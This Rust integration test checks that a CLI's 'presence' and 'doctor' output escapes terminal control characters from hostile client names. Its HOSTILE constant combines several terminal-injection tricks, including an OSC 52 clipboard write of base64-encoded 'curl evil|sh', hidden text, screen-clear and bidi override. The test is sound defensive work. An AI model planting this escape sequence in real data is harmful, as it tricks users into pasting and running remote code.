//! Terminal safety: `rollcall presence` and `rollcall doctor`, run as the
//! real binary, print no raw control character from row data: a row whose
//! `displayName` and `instanceId` write the clipboard (`ESC ] 52 … BEL`)
//! and hide text (`ESC [ 8 m`) shows those bytes as `\u001b` and `\u0007`.

mod common;

use common::{Client, TestServer, connect_params, entry_with, within};
use serde_json::{Value, json};
use std::process::Output;

/// The adversarial run's name: an OSC 52 clipboard write, then hidden
/// text, a carriage return, a C1 CSI, DEL and a bidi override.
const HOSTILE: &str = "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}mini\u{1b}[8m\r\u{9b}2J\u{7f}\u{202e}x";

async fn rollcall(args: &[&str]) -> Output {
    let command = tokio::process::Command::new(env!("CARGO_BIN_EXE_rollcall"))
        .args(args)
        .env_remove("ROLLCALL_CLIENT_TOKEN")
        .env_remove("ROLLCALL_URL")
        .output();
    within("the rollcall binary", command)
        .await
        .expect("the rollcall binary runs")
}

/// Characters a terminal would act on, other than the newlines and tabs
/// that lay the output out.
fn raw_controls(bytes: &[u8]) -> Vec<char> {
    String::from_utf8_lossy(bytes)
        .chars()
        .filter(|&c| {
            (c.is_control() && c != '\n' && c != '\t')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect()
}

fn hostile_params() -> Value {
    let mut params = connect_params("ui", &["operator.read"]);
    params["client"]["displayName"] = json!(HOSTILE);
    params["client"]["instanceId"] = json!(HOSTILE);
    params
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn presence_and_doctor_print_no_raw_control_character() {
    let server = TestServer::start().await;
    let (mut healthy, _) =
        Client::connect(server.addr, connect_params("ui", &["operator.read"])).await;
    let (hostile, _) = Client::connect(server.addr, hostile_params()).await;
    let list = healthy.presence().await;
    assert!(
        entry_with(&list, "host", HOSTILE).is_some(),
        "the row holds the raw name"
    );
    let url = server.ws_url("/");
    for extra in [&[][..], &["--json"][..]] {
        let mut args = vec!["presence", "--url", url.as_str()];
        args.extend_from_slice(extra);
        let out = rollcall(&args).await;
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(
            raw_controls(&out.stdout),
            Vec::<char>::new(),
            "presence {extra:?}"
        );
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(text.contains("\\u001b]52;c;"), "{text}");
        if extra.is_empty() {
            assert!(
                text.contains("\\u0007mini\\u001b[8m\\u000d\\u009b2J\\u007f\\u202ex"),
                "{text}"
            );
        } else {
            let parsed: Value = serde_json::from_str(&text).expect("--json stays JSON");
            assert!(entry_with(parsed.as_array().unwrap(), "host", HOSTILE).is_some());
        }
    }
    // Its disconnect makes it a `gone` finding the doctor names.
    hostile.close().await;
    for extra in [&[][..], &["--json"][..]] {
        let mut args = vec!["doctor", "--url", url.as_str()];
        args.extend_from_slice(extra);
        let out = rollcall(&args).await;
        assert_eq!(
            out.status.code(),
            Some(1),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(
            raw_controls(&out.stdout),
            Vec::<char>::new(),
            "doctor {extra:?}"
        );
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(text.contains("u001b]52;c;"), "{text}");
    }
    assert_eq!(healthy.call("health", json!({})).await["ok"], true);
}
